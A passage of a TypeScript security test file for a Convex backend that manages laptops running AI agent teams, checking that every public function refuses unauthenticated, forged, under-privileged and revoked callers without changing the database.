// @vitest-environment edge-runtime
// Abuse tests over every public function. The functions are enumerated from the modules
// (and checked against the generated API), so a new function without an entry in SPEC
// fails here: it has to say who may call it and give valid sample arguments, and is then
// called without identity, with too low a role, with another laptop's and a revoked
// credential, and with hostile payloads. Every refusal must be a clear error and leave
// every table exactly as it was.
import { makeFunctionReference } from "convex/server";
import { afterAll, describe, expect, test } from "vitest";
import { api, internal } from "./_generated/api";
import type { Id } from "./_generated/dataModel";
import schema from "./schema";
import {
  addUser,
  allFunctions,
  enroll,
  ENROLLMENT_SECRET,
  generatedModules,
  LIBRARY_FUNCTIONS,
  makeT,
  member,
  OPERATOR,
  orchestration,
  OWNER,
  phase,
  SITE_URL,
  T0,
  task,
  team,
  VIEWER,
  type Registered,
  type T,
} from "./test.setup";

// ---------------------------------------------------------------------------------------
// A world with something to attack: three laptops (A, B, R revoked), an orchestration,
// a team, events, a pending and a claimed action on A, users of each role, an invite.

const DIR = "billing-export-phase-1";
const INVITEE = "newbie@example.com";
const EXTERNAL = { issuer: "https://idp.example.com/", subject: "ext-123", tokenIdentifier: "https://idp.example.com/|ext-123", email: INVITEE, name: "Nora Newbie" };

// The suite compares the whole database before and after each refused call, for minutes on a
// busy machine: a laptop's offline check (scheduled a minute after it enrolls) must not fire then.
process.env.TINA_OFFLINE_AFTER_MS = String(3_600_000);
afterAll(() => {
  delete process.env.TINA_OFFLINE_AFTER_MS;
});

async function world(t: T) {
  const owner = await addUser(t, OWNER);
  const operator = await addUser(t, OPERATOR);
  const viewer = await addUser(t, VIEWER);
  const a = await enroll(t, "laptop-a");
  const b = await enroll(t, "laptop-b");
  const r = await enroll(t, "laptop-r");
  await owner.as.mutation(api.nodes.revokeNode, { nodeId: r.nodeId });
  // Operators may message laptop A's agents (the default is owners only), so the operator's
  // sample message is valid.
  await owner.as.mutation(api.nodes.setMessaging, { nodeId: a.nodeId, messaging: "operators" });
  const { orchestrationId } = await t.mutation(api.orchestrations.syncOrchestration, {
    nodeToken: a.token,
    orchestration: orchestration({ status: "blocked" }),
    phases: [phase("1", "blocked", { blockedReason: "tests fail" })],
  });
  const { teamId } = await t.mutation(api.teams.syncTeam, {
    nodeToken: a.token,
    team: team(DIR),
    members: [member("team-lead", DIR), member("executor-1", DIR)],
    tasks: [task("1")],
  });
  const taskRowId = (await t.run((ctx) => ctx.db.query("tasks").withIndex("by_team_task", (q) => q.eq("teamId", teamId).eq("taskId", "1")).unique()))!._id;
  await t.mutation(api.documents.syncDocument, { nodeToken: a.token, orchestrationId, document: planDoc });
  await t.mutation(api.events.recordEvents, {
    nodeToken: a.token,
    orchestrationId,
    events: [{ idempotencyKey: "evt-world-0001", eventType: "phase_blocked", source: "tina-session", summary: "blocked", recordedAt: T0 }],
  });
  const submit = (key: string) =>
    operator.as.mutation(api.actions.submitAction, { action: { type: "retry", orchestrationId, phase: "1" }, idempotencyKey: key });
  const pending = (await submit("world-pending-1")).actionId;
  const claimed = (await submit("world-claimed-1")).actionId;
  await t.mutation(api.actions.claimAction, { nodeToken: a.token, actionId: claimed, leaseOwner: "daemon-a" });
  // Two permission prompts on A: one answered (for the daemon to settle), one open (to answer).
  const openedAt = Date.now();
  for (const promptId of [ANSWERED_PROMPT, OPEN_PROMPT]) {
    await t.mutation(api.prompts.openPrompt, { nodeToken: a.token, ...promptSample(promptId, openedAt) });
  }
  await owner.as.mutation(api.prompts.answer, { promptId: ANSWERED_PROMPT, decision: "allow_once" });
  // The owner answers from notifications; a notification's token for the open prompt.
  await owner.as.mutation(api.notify.setAnswering, { enabled: true });
  await t.mutation(internal.notify.issueAnswers, {
    userId: owner.userId,
    answers: [{ tag: `prompt:${OPEN_PROMPT}`, tokenHash: ANSWER_TOKEN_HASH, spec: { decisions: ["allow", "deny"], target: { kind: "prompt", promptId: OPEN_PROMPT }, expiresAt: openedAt + 20_000 } }],
  });
  const invite = await owner.as.mutation(api.users.invite, { email: INVITEE, role: "viewer" });
  // A signed-in account without a role (cannot come from sign-up, but must be harmless).
  const outsider = await t.run(async (ctx) => {
    const userId = await ctx.db.insert("users", { email: "mallory@example.com" });
    const sessionId = await ctx.db.insert("authSessions", { userId, expirationTime: Date.now() + 3_600_000 });
    return `${userId}|${sessionId}`;
  });
  // A Convex Auth token whose session has ended (signed out, or the user was removed).
  const ended = await t.run(async (ctx) => {
    const sessionId = await ctx.db.insert("authSessions", { userId: viewer.userId, expirationTime: Date.now() + 3_600_000 });
    await ctx.db.delete("authSessions", sessionId);
    return `${viewer.userId}|${sessionId}`;
  });
  const callers = {
    none: t,
    owner: owner.as,
    operator: operator.as,
    viewer: viewer.as,
    outsider: t.withIdentity({ issuer: SITE_URL, subject: outsider, tokenIdentifier: `${SITE_URL}|${outsider}` }),
    endedSession: t.withIdentity({ issuer: SITE_URL, subject: ended, tokenIdentifier: `${SITE_URL}|${ended}` }),
    forged: t.withIdentity({ issuer: SITE_URL, subject: "not-a-user|not-a-session", tokenIdentifier: `${SITE_URL}|forged` }),
    external: t.withIdentity(EXTERNAL),
  };
  return { t, a, b, r, orchestrationId, teamId, taskRowId, pending, claimed, invite, owner, operator, viewer, callers };
}
type World = Awaited<ReturnType<typeof world>>;
type Caller = keyof World["callers"];

// ---------------------------------------------------------------------------------------
// Who may call each public function, with valid sample arguments (credentials are added
// per case). `restricted` lists argument paths that must refuse shell metacharacters and
// path traversal (names that end up in argv or paths on the laptop, and identifiers).

type Access = "node" | "enrollment" | "signedIn" | "notification" | "viewer" | "operator" | "owner";
type Spec = {
  access: Access;
  samples: (w: World) => Record<string, unknown>[];
  restricted?: string[];
  /** For "signedIn" functions: who calls them legitimately. */
  caller?: Caller;
  /** Argument paths whose limit is above the 100 KB of the hostile strings: the limit, in bytes (they get one byte more). */
  large?: Record<string, number>;
};

const page = { numItems: 10, cursor: null };
const health = {
  daemonVersion: "0.1.0",
  startedAt: T0,
  uptimeSecs: 12,
  outboxDepth: 0,
  lastSyncAt: T0 + 1000,
  connection: "connected",
  actors: [{ id: "heartbeat", state: "running", restarts: 0, lastError: "socket closed" }],
};
const result = { ok: true, code: "ok", message: "done", exitCode: 0, output: '{"action":"spawn_executor"}', durationMs: 12 };
const planDoc = {
  kind: "plan" as const,
  phaseNumber: "1",
  path: "/home/dev/acme/.worktrees/billing-export/docs/plans/phase-1.md",
  content: "# Phase 1\n\n- write the exporter\n",
  hash: "a".repeat(64),
  size: 33,
  truncated: false,
  modifiedAt: T0,
  missing: false,
};
const inboxEntry = {
  key: "b".repeat(64),
  recipient: "team-lead",
  sender: "executor-1",
  kind: "permission_request",
  text: "may I run the tests?",
  truncated: false,
  summary: "asks to run tests",
  color: "blue",
  timestamp: T0,
  read: false,
  requestId: "perm-123",
  approved: true,
  detail: '{"tool_name":"Bash"}',
};

const ANSWERED_PROMPT = "a".repeat(32);
const OPEN_PROMPT = "b".repeat(32);
// A notification's answer token (model/notifyAnswer.ts) and its SHA-256.
const ANSWER_TOKEN = "N0tificationAnswerT0ken_0123456789abcdefghi";
const ANSWER_TOKEN_HASH = "ad444948538ddf91240ce30c9dfa4fad96ca965768d29c09da1b12dff7981cfd";
function promptSample(promptId: string, openedAt = T0) {
  return {
    promptId,
    sessionId: "0b6f3a0e-1c2d-4e5f-8a9b-0c1d2e3f4a5b",
    cwd: "/home/dev/acme/.worktrees/billing-export",
    toolName: "Bash",
    toolInput: '{"command":"npm test","description":"Run the tests"}',
    inputTruncated: false,
    description: "Run the tests",
    suggestions: '[{"type":"addRules","rules":[{"toolName":"Bash","ruleContent":"npm test"}],"behavior":"allow","destination":"localSettings"}]',
    teamDir: DIR,
    agentName: "executor-1",
    openedAt,
    expiresAt: openedAt + 240_000,
  };
}

const laptopNeedSample = {
  key: `perm:${DIR}:perm-123`,
  kind: "teammate_permission",
  since: T0,
  title: "executor-1 asks to use Bash",
  detail: "Run the tests",
  teamDir: DIR,
  agentName: "executor-1",
  sessionId: "0b6f3a0e-1c2d-4e5f-8a9b-0c1d2e3f4a5b",
  featureName: "billing-export",
  requestId: "perm-123",
  toolName: "Bash",
  toolInput: '{"command":"npm test"}',
  toolInputTruncated: false,
  cause: "long_tool",
  errorKind: "rate_limit",
  retryHint: "resets 3pm (Europe/London)",
  retryAt: T0 + 3_600_000,
  openTasks: 2,
};
const sessionSample = {
  sessionId: "0b6f3a0e-1c2d-4e5f-8a9b-0c1d2e3f4a5b",
  liveness: "rate_limited",
  reason: "rate limited; resets 3pm",
  cwd: "/home/dev/acme/.worktrees/billing-export",
  teamDir: DIR,
  agentName: "team-lead",
  featureName: "billing-export",
  firstAt: T0,
  lastAt: T0 + 60_000,
  lastEvent: "StopFailure",
  events: 12,
};

const SPEC: Record<string, Spec> = {
  "prompts:openPrompt": {
    access: "node",
    samples: (w) => [{ ...promptSample("c".repeat(32)), orchestrationId: w.orchestrationId }],
    restricted: ["promptId", "sessionId", "teamDir", "agentName"],
    large: { toolInput: 16 * 1024, suggestions: 16 * 1024 },
  },
  "prompts:settlePrompt": {
    access: "node",
    samples: () => [{ promptId: ANSWERED_PROMPT, outcome: "applied" }, { promptId: OPEN_PROMPT, outcome: "expired" }],
    restricted: ["promptId"],
  },
  "prompts:pendingDecisions": { access: "node", samples: () => [{}] },
  "prompts:listOpen": { access: "viewer", samples: () => [{}] },
  "prompts:answer": {
    access: "operator",
    samples: () => [
      { promptId: OPEN_PROMPT, decision: "deny", message: "not now, run the unit tests only", client: "vitest" },
      { promptId: OPEN_PROMPT, decision: "allow_always" },
      { promptId: OPEN_PROMPT, decision: "allow_once" },
    ],
    restricted: ["promptId"],
  },
  "actions:submitAction": {
    access: "operator",
    samples: (w) => [
      { action: { type: "retry", orchestrationId: w.orchestrationId, phase: "1" }, idempotencyKey: "sample-key-0001", expiresInMs: 60_000, client: "vitest" },
      { action: { type: "reject_plan", orchestrationId: w.orchestrationId, phase: "1", feedback: "split it" }, idempotencyKey: "sample-key-0002" },
      { action: { type: "send_message", teamId: w.teamId, agentName: "executor-1", text: "please rebase" }, idempotencyKey: "sample-key-0003" },
      { action: { type: "send_message", teamId: w.teamId, agentName: "executor-1", text: "please rebase", via: "inbox" }, idempotencyKey: "sample-key-0004" },
      { action: { type: "approve_plan", orchestrationId: w.orchestrationId, phase: "1", planHash: planDoc.hash }, idempotencyKey: "sample-key-0005" },
    ],
    restricted: ["action.phase", "action.agentName", "action.planHash", "idempotencyKey"],
  },
  "actions:cancelAction": { access: "operator", samples: (w) => [{ actionId: w.pending, client: "vitest" }] },
  "actions:listActions": { access: "viewer", samples: (w) => [{ orchestrationId: w.orchestrationId, limit: 10 }] },
  "actions:pendingActions": { access: "node", samples: () => [{}] },
  "actions:claimAction": { access: "node", samples: (w) => [{ actionId: w.pending, leaseOwner: "daemon-a", leaseMs: 60_000 }], restricted: ["leaseOwner"] },
  "actions:markActionRunning": { access: "node", samples: (w) => [{ actionId: w.claimed, leaseOwner: "daemon-a" }], restricted: ["leaseOwner"] },
  "actions:completeAction": {
    access: "node",
    samples: (w) => [{ actionId: w.claimed, leaseOwner: "daemon-a", result }],
    restricted: ["leaseOwner", "result.code"],
  },
  "actions:interruptStaleActions": { access: "node", samples: () => [{ leaseOwner: "daemon-a2" }], restricted: ["leaseOwner"] },
  "needs:syncLaptop": {
    access: "node",
    samples: () => [
      {
        items: [
          laptopNeedSample,
          { key: `plan:${DIR}:plan-7`, kind: "agent_plan_approval", since: T0, title: "executor-1 asks to approve its plan", planContent: "# Plan" },
        ],
        sessions: [sessionSample],
      },
      { items: [], sessions: [] },
    ],
    restricted: [
      "items.0.teamDir",
      "items.0.agentName",
      "items.0.sessionId",
      "items.0.featureName",
      "items.0.requestId",
      "sessions.0.sessionId",
      "sessions.0.teamDir",
      "sessions.0.agentName",
      "sessions.0.featureName",
    ],
  },
  "needs:needsYou": { access: "viewer", samples: () => [{}] },
  "needs:dismiss": {
    access: "viewer",
    samples: (w) => [
      { key: `offline:${w.b.nodeId}`, since: T0, client: "vitest" },
      { key: "laptop:x:stall:abc", since: T0, until: Date.now() + 3_600_000 },
    ],
  },
  "needs:restore": { access: "viewer", samples: (w) => [{ key: `offline:${w.b.nodeId}`, client: "vitest" }] },
  "needs:sessions": { access: "viewer", samples: (w) => [{ nodeId: w.a.nodeId }, {}] },
  "audit:list": {
    access: "viewer",
    samples: (w) => [{ paginationOpts: page, nodeId: w.a.nodeId }, { paginationOpts: page, orchestrationId: w.orchestrationId }, { paginationOpts: page, actionId: w.pending }],
  },
  "audit:feed": {
    access: "viewer",
    samples: (w) => [
      { paginationOpts: page },
      { paginationOpts: page, nodeId: w.a.nodeId, kind: "action", outcome: "pending" },
      { paginationOpts: page, actorId: "someone", kind: "people", outcome: "failed" },
    ],
  },
  "audit:filterOptions": { access: "viewer", samples: () => [{}] },
  "events:recordEvents": {
    access: "node",
    samples: (w) => [
      {
        orchestrationId: w.orchestrationId,
        events: [{ idempotencyKey: "evt-sample-0001", eventType: "phase_started", source: "tina-session", summary: "Phase 1", detail: "{}", phaseNumber: "1", recordedAt: T0 }],
      },
    ],
    restricted: ["events.0.idempotencyKey", "events.0.phaseNumber"],
  },
  "usage:recordUsage": {
    access: "node",
    samples: (w) => [
      {
        batch: "usage-sample-0001",
        rows: [
          {
            hour: T0,
            orchestrationId: w.orchestrationId,
            phaseNumber: "1",
            agentName: "executor-1",
            model: "claude-sonnet-4-5-20250929",
            messages: 3,
            input: 1200,
            output: 800,
            cacheWrite: 5000,
            cacheRead: 90_000,
            webSearches: 2,
            costMicros: 52_350,
          },
        ],
      },
    ],
    restricted: ["batch", "rows.0.phaseNumber", "rows.0.agentName"],
  },
  "usage:orchestrationTotals": { access: "viewer", samples: (w) => [{ orchestrationId: w.orchestrationId }] },
  "usage:orchestrationBreakdown": { access: "viewer", samples: (w) => [{ orchestrationId: w.orchestrationId }] },
  "usage:fleetSpend": { access: "viewer", samples: () => [{ days: 7 }] },
  "usage:recordQuota": {
    access: "node",
    samples: () => [
      { observedAt: T0, fiveHour: { usedPct: 23.5, resetsAt: T0 + 3_600_000 }, sevenDay: { usedPct: 41.2, resetsAt: T0 + 86_400_000 } },
      { account: "~/.claude-work", accountKey: "0123456789abcdef0123456789abcdef", observedAt: T0, fiveHour: { usedPct: 5, resetsAt: T0 + 3_600_000 } },
      { observedAt: T0 + 1, limitedAt: T0 + 1, limitedText: "Claude usage limit reached" },
    ],
  },
  "usage:fleetQuota": { access: "viewer", samples: () => [{}] },
  "usage:fleetQuotaRows": { access: "viewer", samples: () => [{}] },
  // A null budget (clear) is tested in convex/usage.test.ts: here a null would become 0, a number.
  "usage:setBudget": { access: "operator", samples: (w) => [{ orchestrationId: w.orchestrationId, budgetMicros: 5_000_000, client: "vitest" }] },
  "documents:syncDocument": {
    access: "node",
    samples: (w) => [{ orchestrationId: w.orchestrationId, document: planDoc }],
    restricted: ["document.phaseNumber", "document.hash"],
    large: { "document.content": 256 * 1024 },
  },
  "documents:getDocument": {
    access: "viewer",
    samples: (w) => [{ orchestrationId: w.orchestrationId, kind: "plan", phase: "1" }, { orchestrationId: w.orchestrationId, kind: "design" }],
    restricted: ["phase"],
  },
  "events:listEvents": { access: "viewer", samples: (w) => [{ orchestrationId: w.orchestrationId, since: T0 - 1, paginationOpts: page }] },
  "nodes:enrollNode": { access: "enrollment", samples: () => [{ name: "laptop-new", os: "darwin" }], restricted: ["name", "os"] },
  "nodes:createEnrollmentCode": { access: "owner", samples: () => [{ nodeName: "laptop-c", client: "vitest" }], restricted: ["nodeName"] },
  "nodes:registerNode": { access: "node", samples: () => [{ os: "darwin" }], restricted: ["os"] },
  "nodes:heartbeat": { access: "node", samples: () => [{ health }] },
  "nodes:signOff": { access: "node", samples: () => [{}] },
  "nodes:listNodes": { access: "viewer", samples: () => [{}] },
  "nodes:orchestrationCounts": { access: "viewer", samples: (w) => [{ nodeId: w.a.nodeId }] },
  "nodes:revokeNode": { access: "owner", samples: (w) => [{ nodeId: w.b.nodeId, client: "vitest" }] },
  "nodes:setMessaging": { access: "owner", samples: (w) => [{ nodeId: w.b.nodeId, messaging: "nobody", client: "vitest" }, { nodeId: w.a.nodeId, messaging: "owners" }] },
  "orchestrations:syncOrchestration": {
    access: "node",
    samples: () => [
      {
        orchestration: orchestration({ featureName: "search", worktreePath: "/w/search", completedAt: T0 + 5000 }),
        phases: [
          phase("1", "complete", {
            planPath: "/w/search/docs/plans/1.md",
            gitRange: "a..b",
            executionStartedAt: T0 + 1,
            reviewStartedAt: T0 + 2,
            completedAt: T0 + 3,
            planningMins: 1,
            executionMins: 2,
            reviewMins: 3,
            durationMins: 6,
            blockedReason: "none",
            pausedFrom: "executing",
            feedback: "ok",
          }),
        ],
        seq: 5,
      },
    ],
    restricted: ["orchestration.featureName", "phases.0.phaseNumber"],
  },
  "orchestrations:listOrchestrations": { access: "viewer", samples: (w) => [{ nodeId: w.a.nodeId, status: "blocked", finishedLimit: 5 }, { finishedLimit: 5 }] },
  "orchestrations:getOrchestrationDetail": { access: "viewer", samples: (w) => [{ orchestrationId: w.orchestrationId }] },
  "orchestrations:orchestrationAgents": { access: "viewer", samples: (w) => [{ orchestrationId: w.orchestrationId }] },
  "orchestrations:orchestrationProgress": { access: "viewer", samples: (w) => [{ orchestrationId: w.orchestrationId }] },
  "orchestrations:teamTasks": { access: "viewer", samples: (w) => [{ teamId: w.teamId, paginationOpts: page }] },
  "orchestrations:taskDescription": { access: "viewer", samples: (w) => [{ taskId: w.taskRowId }] },
  "teams:syncTeam": {
    access: "node",
    samples: () => [
      {
        team: team("search-phase-1", { description: "d" }),
        members: [member("team-lead", "search-phase-1", { cwd: "/w/search" })],
        tasks: [task("1", { activeForm: "doing", owner: "team-lead", blocks: ["2"], blockedBy: [], metadata: "{}" })],
        seq: 3,
      },
    ],
    restricted: ["team.dirName", "members.0.agentName"],
  },
  "teams:syncTeams": {
    access: "node",
    samples: () => [
      {
        teams: [
          {
            team: team("search-phase-5"),
            members: [member("team-lead", "search-phase-5", { cwd: "/w/search" })],
            tasks: [task("1", { activeForm: "doing", metadata: "{}" })],
            seq: 4,
          },
        ],
      },
    ],
    restricted: ["teams.0.team.dirName", "teams.0.members.0.agentName"],
  },
  "teams:syncTeamDelta": {
    access: "node",
    samples: () => [
      {
        team: team("search-phase-2"),
        base: 1,
        seq: 2,
        members: [member("team-lead", "search-phase-2")],
        tasks: [{ seq: 2, task: task("1", { activeForm: "doing", metadata: "{}" }) }],
        removed: ["9"],
        taskCounts: { pending: 1, inProgress: 0, completed: 0, other: 0 },
      },
    ],
    restricted: ["team.dirName", "members.0.agentName"],
  },
  "teams:reconcileTeam": {
    access: "node",
    samples: () => [
      {
        team: team("search-phase-3"),
        epoch: 7,
        members: [member("team-lead", "search-phase-3")],
        tasks: [{ seq: 7, task: task("1") }],
      },
    ],
    restricted: ["team.dirName", "members.0.agentName"],
  },
  "teams:finishReconcile": {
    access: "node",
    samples: () => [{ dirName: DIR, epoch: 7, seq: 8, taskCounts: { pending: 1, inProgress: 0, completed: 0, other: 0 } }],
    restricted: ["dirName"],
  },
  "teams:removeTeam": { access: "node", samples: () => [{ dirName: DIR, seq: 9 }], restricted: ["dirName"] },
  "teams:listUnlinkedTeams": { access: "viewer", samples: (w) => [{ nodeId: w.a.nodeId }] },
  "teams:activeTeamDirs": { access: "node", samples: () => [{}] },
  "teams:recordTeamMessages": { access: "node", samples: () => [{ dirName: DIR, messages: [inboxEntry] }], restricted: ["dirName", "messages.0.key"] },
  "teams:conversation": { access: "viewer", samples: (w) => [{ teamId: w.teamId, limit: 50 }] },
  "notify:config": { access: "viewer", samples: () => [{}] },
  "notify:devices": { access: "viewer", samples: () => [{}] },
  "notify:subscribe": {
    access: "viewer",
    // p256dh: the P-256 base point (a valid uncompressed public key).
    samples: () => [
      {
        subscription: {
          endpoint: "https://push.example.com/send/abc123",
          keys: { p256dh: "BGsX0fLhLEJH-Lzm5WOkQPJ3A32BLeszoPShOUXYmMKWT-NC4v4af5uO5-tKfA-eFivOM1drMV7Oy7ZAaDe_UfU", auth: "AAECAwQFBgcICQoLDA0ODw" },
        },
        label: "Pixel 8 · Chrome",
        client: "vitest",
      },
    ],
  },
  "notify:unsubscribe": { access: "viewer", samples: () => [{ endpoint: "https://push.example.com/send/abc123", client: "vitest" }] },
  "notify:settings": { access: "viewer", samples: () => [{}] },
  "notify:updateSettings": {
    access: "viewer",
    samples: () => [
      {
        kinds: ["plan_approval", "permission_prompt"],
        quietHours: { start: "22:00", end: "07:00", timeZone: "Europe/Paris" },
        ntfy: { server: "https://ntfy.sh", topic: "tina-alerts-7f3a" },
        webhook: { url: "https://hooks.example.com/services/T000/B000/XXXX" },
        client: "vitest",
      },
      { quietHours: null, ntfy: null, webhook: null },
    ],
  },
  "notify:sendTest": { access: "viewer", samples: () => [{ channel: "push" }, { channel: "webhook", client: "vitest" }] },
  "notify:recentDeliveries": { access: "viewer", samples: () => [{}] },
  "notify:setAnswering": { access: "viewer", samples: () => [{ enabled: false, client: "vitest" }] },
  "notify:answer": { access: "notification", samples: () => [{ decision: "deny" }, { decision: "allow" }] },
  "presence:watch": { access: "viewer", samples: () => [{}, { client: "vitest" }] },
  "presence:watchedUntil": { access: "node", samples: () => [{}] },
  "users:me": { access: "signedIn", caller: "viewer", samples: () => [{}] },
  "users:acceptInvite": { access: "signedIn", caller: "external", samples: (w) => [{ code: w.invite.code }] },
  "users:list": { access: "owner", samples: () => [{}] },
  "users:invite": { access: "owner", samples: () => [{ email: "new@example.com", role: "operator", client: "vitest" }], restricted: ["email"] },
  "users:revokeInvite": { access: "owner", samples: (w) => [{ inviteId: w.invite.inviteId, client: "vitest" }] },
  "users:setRole": { access: "owner", samples: (w) => [{ userId: w.viewer.userId, role: "operator", client: "vitest" }] },
  "users:remove": { access: "owner", samples: (w) => [{ userId: w.viewer.userId, client: "vitest" }] },
};

// ---------------------------------------------------------------------------------------
// Calling by name, observing outcomes, comparing the whole database.

type Kind = "query" | "mutation" | "action";
type Fn = { name: string; kind: Kind; spec: Spec };
type Accessor = Pick<T, "query" | "mutation" | "action">;

function kindOf(fn: Registered): Kind {
  return fn.isQuery ? "query" : fn.isMutation ? "mutation" : "action";
}

function call(who: Accessor, kind: Kind, name: string, args: Record<string, unknown>): Promise<unknown> {
  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  const ref = makeFunctionReference<any>(name) as any;
  return kind === "query" ? who.query(ref, args) : kind === "mutation" ? who.mutation(ref, args) : who.action(ref, args);
}

type Outcome = { ok: true; value: unknown } | { ok: false; code: string; message: string; field?: string };
const CODES = new Set(["unauthenticated", "forbidden", "revoked", "invalid_argument", "not_found", "conflict"]);

async function attempt(p: Promise<unknown>): Promise<Outcome> {
  try {
    return { ok: true, value: await p };
  } catch (e) {
    const data = (e as { data?: unknown }).data;
    if (data && typeof data === "object" && "code" in data) {
      const d = data as { code: string; message: string; field?: string };
      return { ok: false, code: d.code, message: d.message, ...(d.field ? { field: d.field } : {}) };
    }
    const message = String((e as Error)?.message ?? e);
    // Argument validators refuse wrong types, unknown fields and unknown literals.
    return { ok: false, code: /Validator error|ArgumentValidationError/.test(message) ? "validation" : "crash", message };
  }
}

/** A clear refusal: a known ConvexError code with a message, or an argument validator's error. */
function isClearRefusal(o: Outcome): boolean {
  return !o.ok && o.message.length > 0 && (CODES.has(o.code) || o.code === "validation");
}

async function dump(t: T): Promise<string> {
  return await t.run(async (ctx) => {
    const out: Record<string, unknown> = {};
    for (const table of Object.keys(schema.tables)) {
      out[table] = await ctx.db.query(table as "nodes").collect();
    }
    out._scheduled_functions = await ctx.db.system.query("_scheduled_functions").collect();
    return JSON.stringify(out);
  });
}

function credentialed(w: World, fn: Fn, args: Record<string, unknown>, token = w.a.token): Record<string, unknown> {
  if (fn.spec.access === "node") return { ...args, nodeToken: token };
  if (fn.spec.access === "enrollment") return { ...args, enrollmentSecret: ENROLLMENT_SECRET };
  if (fn.spec.access === "notification") return { ...args, token: ANSWER_TOKEN };
  return args;
}

function rightCaller(w: World, fn: Fn): Accessor {
  switch (fn.spec.access) {
    case "node":
    case "enrollment":
    case "notification":
      return w.callers.none;
    case "signedIn":
      return w.callers[fn.spec.caller ?? "viewer"];
    default:
      return w.callers[fn.spec.access];
  }
}

let functionsCache: Fn[] | undefined;
async function publicFunctions(): Promise<Fn[]> {
  if (functionsCache === undefined) {
    functionsCache = (await allFunctions())
      .filter(([name, fn]) => fn.isPublic && !LIBRARY_FUNCTIONS.has(name))
      .map(([name, fn]) => ({ name, kind: kindOf(fn), spec: SPEC[name] }));
  }
  return functionsCache;
}

/** Runs `probe` for every function and sample; collects every case where the database changed or the refusal was unclear. */
async function expectRefusedEverywhere(
  label: string,
  cases: (w: World, fn: Fn) => { who: Accessor; args: Record<string, unknown>; what: string; code?: string | string[] }[],
  fns?: (fn: Fn) => boolean,
): Promise<number> {
  const t = makeT();
  const w = await world(t);
  const problems: string[] = [];
  let count = 0;
  for (const fn of await publicFunctions()) {
    if (fns && !fns(fn)) continue;
    for (const c of cases(w, fn)) {
      const before = await dump(t);
      const outcome = await attempt(call(c.who, fn.kind, fn.name, c.args));
      const after = await dump(t);
      count++;
      const where = `${fn.name} ${c.what}`;
      if (outcome.ok) problems.push(`${where}: accepted (${JSON.stringify(outcome.value)?.slice(0, 120)})`);
      else if (!isClearRefusal(outcome)) problems.push(`${where}: unclear refusal ${outcome.code}: ${outcome.message.slice(0, 200)}`);
      else if (c.code !== undefined && ![c.code].flat().includes(outcome.code)) problems.push(`${where}: refused with ${outcome.code}, expected ${c.code} (${outcome.message})`);
      if (before !== after) problems.push(`${where}: the database changed`);
    }
  }
  expect(problems, label).toEqual([]);
  return count;
}

// ---------------------------------------------------------------------------------------

describe("the function list", () => {
  test("every public function has a security spec, and every spec a function", async () => {
    const names = (await publicFunctions()).map((f) => f.name);
    expect(names.filter((n) => SPEC[n] === undefined), "add these to SPEC in security.test.ts").toEqual([]);
    expect(Object.keys(SPEC).filter((n) => !names.includes(n)), "stale SPEC entries").toEqual([]);
  });

  test("the modules match the generated API, so nothing escapes the enumeration", async () => {
    const generated = generatedModules();
    const withFunctions = new Set((await allFunctions()).map(([name]) => name.split(":")[0]));
    expect([...withFunctions].filter((m) => !generated.includes(m)), "run `npx convex codegen`").toEqual([]);
    const loaded = Object.keys((await import("./test.setup")).modules)
      .filter((p) => !p.includes("_generated"))
      .map((p) => p.replace(/^\.\//, "").replace(/\.ts$/, ""));
    expect(generated.filter((m) => !loaded.includes(m))).toEqual([]);
  });

  test("each spec's access matches the wrapper that built the function", async () => {
    const mismatched: string[] = [];
    for (const [name, fn] of await allFunctions()) {
      if (!fn.isPublic || LIBRARY_FUNCTIONS.has(name) || SPEC[name] === undefined) continue;
      if (fn.tinaAccess !== SPEC[name].access) mismatched.push(`${name}: built as ${fn.tinaAccess}, spec says ${SPEC[name].access}`);
    }
    expect(mismatched).toEqual([]);
  });

  test("the samples are valid: with the right caller every call succeeds", async () => {
    const failures: string[] = [];
    const counting = await world(makeT());
    for (const fn of await publicFunctions()) {
      for (const [i] of fn.spec.samples(counting).entries()) {
        // A fresh world per call: a successful mutation changes state.
        const t = makeT();
        const w = await world(t);
        const args = credentialed(w, fn, fn.spec.samples(w)[i]);
        const outcome = await attempt(call(rightCaller(w, fn), fn.kind, fn.name, args));
        if (!outcome.ok) failures.push(`${fn.name}[${i}]: ${outcome.code}: ${outcome.message}`);
      }
    }
    expect(failures).toEqual([]);
  });
});

describe("callers without the right to call", () => {
  test("no identity and no credential: refused, nothing changes", async () => {
    const n = await expectRefusedEverywhere("no identity", (w, fn) =>
      fn.spec.samples(w).map((args) => ({
        who: w.callers.none,
        // A laptop function called without a usable token; an enrollment with an empty secret.
        args:
          fn.spec.access === "node"
            ? { ...args, nodeToken: "" }
            : fn.spec.access === "enrollment"
              ? { ...args, enrollmentSecret: "" }
              : fn.spec.access === "notification"
                ? { ...args, token: "" }
                : args,
        what: "without identity",
        code: "unauthenticated",
      })),
    );
    expect(n).toBeGreaterThan(30);
  });

  test("a forged token, an ended session, an account without a role: refused, nothing changes", async () => {
    await expectRefusedEverywhere(
      "bad identities",
      (w, fn) =>
        fn.spec.samples(w).flatMap((args) => [
          { who: w.callers.forged, args, what: "with a forged identity", code: "unauthenticated" },
          { who: w.callers.endedSession, args, what: "after the session ended", code: "unauthenticated" },
          ...(fn.spec.access === "signedIn" ? [] : [{ who: w.callers.outsider, args, what: "as a user without a role", code: "forbidden" }]),
          ...(fn.spec.access === "signedIn" ? [] : [{ who: w.callers.external, args, what: "as an uninvited OIDC identity", code: "forbidden" }]),
        ]),
      (fn) => !["node", "enrollment", "notification"].includes(fn.spec.access),
    );
  });

  test("a viewer on operator and owner functions, an operator on owner functions: forbidden, nothing changes", async () => {
    await expectRefusedEverywhere(
      "role too low",
      (w, fn) =>
        fn.spec.samples(w).flatMap((args) => [
          { who: w.callers.viewer, args, what: "as a viewer", code: "forbidden" },
          ...(fn.spec.access === "owner" ? [{ who: w.callers.operator, args, what: "as an operator", code: "forbidden" }] : []),
        ]),
      (fn) => fn.spec.access === "operator" || fn.spec.access === "owner",
    );
  });

  test("a dashboard identity is no laptop credential, and a laptop credential is no dashboard identity", async () => {
    await expectRefusedEverywhere(
      "wrong kind of credential",
      (w, fn) =>
        fn.spec.samples(w).map((args) =>
          fn.spec.access === "node"
            ? { who: w.callers.owner, args: { ...args, nodeToken: "" }, what: "as the owner, without a node token", code: "unauthenticated" }
            : { who: w.callers.none, args: { ...args, nodeToken: w.a.token }, what: "with a node token instead of a sign-in", code: ["validation", "unauthenticated"] },
        ),
      (fn) => fn.spec.access !== "enrollment" && fn.spec.access !== "notification",
    );
  });

  test("a revoked laptop credential: refused with `revoked`, nothing changes", async () => {
